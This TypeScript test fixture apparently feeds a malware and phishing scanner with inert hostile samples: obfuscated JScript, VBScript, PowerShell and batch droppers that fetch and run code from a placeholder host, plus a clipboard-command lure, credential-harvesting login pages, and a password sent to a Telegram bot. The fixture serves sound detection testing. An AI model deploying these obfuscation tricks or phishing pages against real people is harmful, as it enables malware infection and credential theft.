/** Scripts and pages whose words appear only when they run. Each hides them in another way. All are inert. */
import { zipOf } from '../../engines/zip-fixture.ts';
import { base64, codes, HOST, type HostileFile, PROGRAM } from './sample.ts';

const hex = (text: string, key = 0) =>
  codes(text)
    .map((code) => (code ^ key).toString(16).padStart(2, '0'))
    .join('');
const backwards = (text: string) => [...text].reverse().join('');
const COMMAND = `powershell -c iex(irm ${HOST}/a)`;
const RUN = `CreateObject("WScript.Shell").Run "mshta ${HOST}/a",0`;
/** The letters of a text, so that adding them by turns in front and behind gives the text. */
function woven(text: string): string {
  const letters: string[] = [];
  let [first, last] = [0, text.length - 1];
  for (let at = text.length - 1; at >= 0; at--) letters[at] = text.charAt(at % 2 === 1 ? last-- : first++);
  return letters.join('').replaceAll('"', '\\"');
}
const HIDDEN = { level: 'malicious', finds: ['code-hidden-words'] } as const;
const TRAP = { level: 'malicious', finds: ['html-login-trap'] } as const;
const FORM = '<input value="ap@example.org"><input type=password name=p>';

export const HOSTILE_OBFUSCATION: readonly HostileFile[] = [
  {
    technique: 'JScript: names under an exclusive-or',
    name: 'xor.js',
    content: `var s=WScript[d([${codes('CreateObject')
      .map((code) => code ^ 23)
      .join(',')}])](d([${codes('WScript.Shell')
      .map((code) => code ^ 23)
      .join(',')}]));`,
    ...HIDDEN,
  },
  {
    technique: 'JScript: names behind a sum and a product',
    name: 'sum.js',
    content: `var s=WScript.CreateObject(d(${codes('WScript.Shell')
      .map((code) => (code + 11) * 3)
      .join(',')}));`,
    ...HIDDEN,
  },
  {
    technique: 'JScript: names written backwards in a list',
    name: 'backwards.js',
    content: `var a=["${backwards('WScript.Shell')}","${backwards(COMMAND)}"];var o=WScript[r("tcejbOetaerC")](r(a[0]));o[r("nuR")](r(a[1]),0);`,
    ...HIDDEN,
  },
  {
    technique: 'JScript: names strewn with junk',
    name: 'junk.js',
    content: `var z='WSc[@]ript.Sh[@]ell'.replace(/\\[@\\]/g,'');new ActiveXObject(z).Run("x");`,
    ...HIDDEN,
  },
  {
    technique: 'JScript: code woven from both ends',
    name: 'woven.js',
    content: `var w='${woven(`s=WScript.CreateObject("WScript.Shell");s.Run("mshta ${HOST}/aa")`)}';t.constructor(t(w))();`,
    ...HIDDEN,
  },
  {
    technique: 'JScript: names returned in pieces',
    name: 'pieces.js',
    content: `function a(){return 'ADODB'}function b(){return '.Stream'}var s=WScript.CreateObject(a()+b());s.open();`,
    ...HIDDEN,
  },
  {
    technique: 'JScript: runs what a request answers',
    name: 'update.js',
    content: `var r=new ActiveXObject('MSXML2.XMLHTTP');r.open('POST','${HOST}/u',false);r.send('a');eval(r['responseText']);`,
    level: 'malicious',
    finds: ['code-downloads-and-runs'],
  },
  {
    technique: 'script file: script from the network',
    name: 'remote.wsf',
    content: `<job><script language="JScript" src="${HOST}/stage.js"></script></job>`,
    level: 'malicious',
    finds: ['code-downloads-and-runs'],
  },
  {
    technique: 'VBScript: hexadecimal digits under an exclusive-or',
    name: 'hex.vbs',
    content: `CreateObject(X("${hex('WScript.Shell', 19)}")).Run X("${hex(COMMAND, 19)}"), 0`,
    ...HIDDEN,
  },
  {
    technique: 'VBScript: every sixth letter counts',
    name: 'sixth.vbs',
    content: `Set b = CreateObject(s("${[...'WScript.Shell'].map((letter) => `abcde${letter}`).join('')}"))`,
    ...HIDDEN,
  },
  {
    technique: 'VBScript: numbers with something added',
    name: 'added.vbs',
    content: `For Each n In Array(${codes(RUN)
      .map((code) => code + 13)
      .join(',')}): s = s & Chr(n - 13): Next: ExecuteGlobal s`,
    ...HIDDEN,
  },
  {
    technique: 'PowerShell: hexadecimal pairs',
    name: 'pairs.ps1',
    content: `$s=-join('${codes(`iex (irm ${HOST}/h)`)
      .map((code) => code.toString(16))
      .join('-')}' -split '-'|%{[char][convert]::ToInt16($_,16)});&('i'+'ex') $s`,
    ...HIDDEN,
  },
  {
    technique: 'PowerShell: evaluates what it decodes',
    name: 'answer.ps1',
    content: `[Text.Encoding]::UTF8.GetString([Net.HttpWebRequest]::Create('${HOST}').GetResponse().GetResponseStream())|iex`,
    level: 'malicious',
    finds: ['code-hides-what-it-does'],
  },
  {
    technique: 'batch file: even the word set is put together',
    name: 'set.bat',
    content: `@echo off\r\nset "k=s"&&set "q=et "\r\n%k%%q%"a=pow"\r\n%k%%q%"b=ershell -w hidden -c "\r\n%a%%b%iex(irm ${HOST})\r\n`,
    level: 'malicious',
    finds: ['code-downloads-and-runs'],
  },
  {
    technique: 'batch file behind the mark of wide text',
    name: 'wide.bat',
    content: '\xff\xfe&cls\r\n@echo off\r\n',
    level: 'malicious',
    finds: ['batch-behind-wide-mark'],
  },
  {
    technique: 'page: command for the clipboard',
    name: 'robot.html',
    content: `<html><p>I am not a robot: press Win + R</p><script>navigator.clipboard.writeText("mshta ${HOST}/v")</script></html>`,
    level: 'malicious',
    finds: ['clipboard-command'],
  },
  {
    technique: 'page: archive under an exclusive-or',
    name: 'masked.html',
    content: `<script>var a=[${[...zipOf({ 'a.exe': { content: PROGRAM } })].map((byte) => byte ^ 119).join(',')}],s=String.fromCharCode;location=URL.createObjectURL(new File([o(a)],"a.zip"))</script>`,
    level: 'malicious',
    finds: ['html-carries-payload'],
  },
  {
    technique: 'page: password to a bot of a chat',
    name: 'bot.html',
    content: `<input type=password id=p><script>fetch("https://api.telegram.org/bot1:x/sendMessage",{body:p.value})</script>`,
    level: 'malicious',
    finds: ['html-sends-to-chat'],
  },
  {
    technique: 'page: login with the reader filled in',
    name: 'reader.html',
    content: `<form action="${HOST}/next.php">${FORM}</form>`,
    ...TRAP,
  },
  {
    technique: 'page: login sent by a script',
    name: 'ajax.html',
    content: `<form>${FORM}</form><script>$.ajax({url:atob("${base64(`${HOST}/a.php`)}"),type:"POST"})</script>`,
    ...TRAP,
  },
  {
    technique: 'page: only sends on',
    name: 'voicemail.html',
    content: `<html><body onload="window.top.location='${HOST}/?u='+btoa('ap@example.org')"></body></html>`,
    level: 'suspicious',
    finds: ['html-redirects'],
  },
  {
    technique: 'page: form in pieces',
    name: 'form.html',
    content: `<script>var q=['<fo','rm act','ion=x><inp','ut type=pass','word>'];document.write(q.join(''))</script>`,
    level: 'suspicious',
    finds: ['html-writes-page'],
  },
  {
    technique: 'drawing: leads away behind a layer',
    name: 'layer.svg',
    content: `<svg xmlns="http://www.w3.org/2000/svg"><script>eval(atob("${base64(`location.href='${HOST}/#ap@example.org'`)}"))</script></svg>`,
    level: 'malicious',
    finds: ['svg-attack'],
  },
  {
    technique: 'folder settings: icon on another machine',
    name: 'desktop.ini',
    content: '[.ShellClassInfo]\r\nIconResource=\\\\files.example.invalid\\share\\x.ico,0\r\n',
    level: 'suspicious',
    finds: ['folder-settings-remote'],
  },
];
